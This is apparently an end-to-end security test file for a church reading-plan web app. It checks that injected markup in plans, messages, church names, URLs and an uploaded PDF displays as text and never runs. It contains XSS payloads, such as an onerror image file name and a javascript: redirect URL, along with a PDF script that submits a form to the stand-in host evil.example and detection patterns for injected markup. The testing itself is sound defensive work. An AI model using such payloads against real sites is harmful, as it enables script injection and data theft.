/** Markup and addresses in whatever people, files and models write: shown as text, never run, never fetched. */
import { PDFDocument, StandardFonts } from "@cantoo/pdf-lib";
import type { Page } from "playwright";
import { afterEach, beforeAll, expect, inject, it } from "vitest";
import { callAs } from "../support/callAs.ts";
import { allSaved } from "../support/pageTables.ts";
import { MARKDOWN, PAYLOADS, packed } from "../support/payloads.ts";
import { DESKTOP, newPerson, type Person, send, signIn, signUp } from "../support/person.ts";
import { sharedBrowser } from "../support/sharedBrowser.ts";

const PROJECT = "attacked";
const [FIRST = "", SECOND = ""] = packed(PAYLOADS, 200);

const browser = sharedBrowser();
let eve: Person;
let page: Page;
/** What would have been a success: a dialog that a script opened, a request to another origin. */
const happened: string[] = [];

beforeAll(async () => {
  eve = await visitor();
  page = eve.page;
  await signUp(eve, "eve@attacks.example", packed(PAYLOADS, 120)[0] ?? "");
});
afterEach(async () => {
  expect(happened.splice(0)).toEqual([]);
  expect(eve.complaints.splice(0)).toEqual([]);
  expect(await markupOf(page)).toEqual([]);
});

it("has two hundred payloads", () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(200);
});

it("shows them in every text of a plan", async () => {
  const titles = packed(PAYLOADS, 200);
  const questions = packed(PAYLOADS, 1_000);
  const prayers = packed(PAYLOADS, 4_000);
  const days = titles.map((title, at) => ({
    ...{ day_number: (at % 5) + 1, scripture: "Psalm 1", title },
    questions: questions.slice(at, at + 1),
    prayer: prayers[at] ?? "",
  }));
  const weeks = Array.from({ length: Math.ceil(days.length / 5) }, (_, at) => ({
    ...{ week_number: at + 1, name: titles[at], weekly_passage: titles.at(-1 - at) },
    passages: days.slice(at * 5, at * 5 + 5),
  }));
  const messages = PAYLOADS.flatMap((content, at) => [
    { id: `q${at}`, role: "user", content, timestamp: timestamp(at * 2) },
    ...(MARKDOWN[at] === undefined
      ? []
      : [
          {
            id: `a${at}`,
            role: "assistant",
            content: MARKDOWN[at],
            timestamp: timestamp(at * 2 + 1),
          },
        ]),
  ]);
  const draft = { id: PROJECT, title: FIRST, description: SECOND, churchId: "", status: "draft" };
  expect((await callAs(eve, "POST /api/projects/create", draft)).status).toBe(200);
  const save = { readingPlan: weeks, conversationMessages: messages, langGraphThreadId: null };
  const saved = await callAs(eve, `POST /api/projects/${PROJECT}/autoSave`, save);
  expect([saved.status, saved.body.error]).toEqual([200, undefined]);

  await page.goto("/projects");
  await page.getByText(FIRST).last().click();
  const plan = page.getByRole("region", { name: "Reading plan" });
  await plan
    .getByText(titles[0] ?? "")
    .first()
    .waitFor();
  const shown = await readEverything(page, "Reading plan");
  expect(titles.filter((text) => !shown.includes(text))).toEqual([]);
  expect(questions.filter((text) => !shown.includes(text))).toEqual([]);
  expect(prayers.filter((text) => !shown.includes(text))).toEqual([]);
});

it("shows them in messages, and loads nothing that an answer names", async () => {
  const shown = await readEverything(page, "Conversation");
  expect(PAYLOADS.filter((payload) => !shown.includes(payload))).toEqual([]);
  expect(shown.includes("secret")).toBe(true);
});

it("shows them in the names and places of churches, in the church search", async () => {
  const texts = packed(PAYLOADS, 112);
  const seeker = await visitor();
  await seeker.page.goto("/");
  await signIn(seeker, "seeker@attacks.example");
  const search = seeker.page.getByRole("searchbox", { name: "Name or place" });
  await search.waitFor();
  for (let at = 0; at < texts.length; at += 3) {
    const [name = "x", city = "x", country = "x"] = texts.slice(at, at + 3);
    // The search finds the church by this word under each of its hostile names.
    const place = `${country} guise${at}`;
    await callAs(eve, "PATCH /api/churches/mine", { name, city, country: place });
    await search.fill(`guise${at}`);
    await seeker.page.getByText(name, { exact: true }).waitFor();
    await seeker.page.getByText(`${city}, ${place}`).waitFor();
    expect(await markupOf(seeker.page)).toEqual([]);
  }
  expect(seeker.complaints).toEqual([]);
  await seeker.context.close();
});

it("shows them in a person's name in the settings", async () => {
  await callAs(eve, "PUT /api/users/me", { displayName: FIRST });
  await page.goto("/account");
  await page.getByRole("main").getByText(FIRST).first().waitFor();
});

it("shows them where an address of the app contains them", async () => {
  for (const text of packed(PAYLOADS, 3_500)) {
    const carried = encodeURIComponent(text);
    for (const address of [
      `/?text=${carried}`,
      `/nowhere/${carried}`,
      `/projects?query=${carried}`,
    ]) {
      await page.goto(address);
      await page.getByRole("main").first().waitFor();
      expect(await markupOf(page)).toEqual([]);
    }
  }
});

it("shows them to visitors who are not signed in", async () => {
  const stranger = await visitor();
  for (const text of packed(PAYLOADS, 3_500)) {
    const carried = encodeURIComponent(text);
    for (const address of [
      `/signin?error=${carried}&continueUrl=${carried}`,
      `/signin?continueUrl=${encodeURIComponent(`javascript:alert(1)//${text}`)}`,
      `/onboarding/select-church?code=${carried}`,
    ]) {
      await stranger.page.goto(address);
      await stranger.page.getByRole("textbox", { name: "Email" }).waitFor();
      expect(await markupOf(stranger.page)).toEqual([]);
    }
  }
  expect(stranger.complaints).toEqual([]);
  await stranger.context.close();
});

it("reads them in a file as text, and runs nothing in the file", async () => {
  await page.goto("/?newProject=true");
  await page.locator('input[type="file"]').setInputFiles({
    name: "<img src=x onerror=alert(1)>.pdf",
    mimeType: "application/pdf",
    buffer: Buffer.from(await poisonedPdf()),
  });
  await page.getByText(/1 page, \d+ words/).waitFor();
  await send(eve, "A 1-week plan from this list");
  await page.getByText("<img src=x onerror=alert(1)>.pdf").first().waitFor();
  await allSaved(page);
});

/** A person whose browser tells what an attack achieved. */
async function visitor(): Promise<Person> {
  const person = await newPerson(browser, inject("address"), DESKTOP);
  person.page.on("dialog", (dialog) => {
    happened.push(`ran: ${dialog.message()}`);
    void dialog.dismiss();
  });
  person.context.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith("http") && origin !== inject("address")) happened.push(request.url());
  });
  return person;
}

const timestamp = (minutes: number) => new Date(Date.UTC(2026, 0, 1, 0, minutes)).toISOString();

/** Returns what is in the page only if a payload became markup. */
function markupOf(of: Page): Promise<string[]> {
  return of.evaluate(() => {
    const made = document.querySelectorAll(
      "iframe, object, embed, marquee, base, math, video, audio, template, noscript p, meta[http-equiv=refresh]",
    );
    const wired = [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(
        ({ name, value }) => /^on/.test(name) || /^\s*(javascript|data:text|vbscript)/i.test(value),
      ),
    );
    const foreign = [...document.querySelectorAll("[src], [srcset], link[href]")].filter(
      (element) => /evil\.example/.test(element.outerHTML),
    );
    return [...made, ...wired, ...foreign].map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
}

/** Opens what can be opened in a region and goes down it, collecting what it says on the way. */
function readEverything(of: Page, region: string): Promise<string> {
  return of.evaluate(async (label) => {
    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
    const found = document.querySelector(`section[aria-label="${label}"]`);
    if (!found) throw new Error(`No region ${label}`);
    const scroller =
      [found, ...found.querySelectorAll("*")].find(
        (element) => element.scrollHeight > element.clientHeight + 1 && element.clientHeight > 200,
      ) ?? found;
    /** A list that draws what is in sight has drawn it; a day that is its words alone is far away still. */
    const isDrawn = () => {
      const sight = scroller.getBoundingClientRect();
      for (const far of found.querySelectorAll("[data-day]:not(:has(button))")) {
        const place = far.getBoundingClientRect();
        if (place.bottom > sight.top && place.top < sight.bottom) return false;
      }
      const rows = [...found.querySelectorAll("ol > li[data-index]")];
      const [first, last] = [rows[0], rows.at(-1)].map((row) => row?.getBoundingClientRect());
      if (!first || !last) return true;
      const { top, bottom } = sight;
      const end = rows.at(-1)?.parentElement?.getBoundingClientRect().bottom ?? bottom;
      return first.top <= top + 40 && last.bottom >= Math.min(bottom, end) - 40;
    };
    let said = "";
    // Earlier messages are asked for at the top, and come above it.
    do {
      scroller.scrollTop = 0;
      await frame();
    } while (found.querySelector('[aria-setsize="-1"]') || scroller.scrollTop > 0 || !isDrawn());
    for (let at = -1; scroller.scrollTop > at; ) {
      at = scroller.scrollTop;
      do {
        await frame();
        await frame();
      } while (!isDrawn());
      // Not beside it, where a panel would take its place.
      for (const closed of scroller.querySelectorAll<HTMLElement>(
        'button[aria-expanded="false"]:not([aria-haspopup]), details:not([open]) > summary',
      )) {
        closed.click();
      }
      await frame();
      said += found.textContent;
      for (const field of found.querySelectorAll("textarea")) said += ` ${field.value}`;
      scroller.scrollTop += scroller.clientHeight * 0.7;
    }
    return said;
  }, region);
}

async function poisonedPdf(): Promise<Uint8Array> {
  const file = await PDFDocument.create();
  const font = await file.embedFont(StandardFonts.Helvetica);
  const sheet = file.addPage([2_000, PAYLOADS.length * 14 + 40]);
  for (const [at, payload] of ["Psalm 1", ...PAYLOADS].entries()) {
    sheet.drawText(payload, { x: 10, y: PAYLOADS.length * 14 - at * 14 + 20, size: 10, font });
  }
  file.addJavaScript("start", "app.alert(1); this.submitForm('https://evil.example/p');");
  return file.save();
}
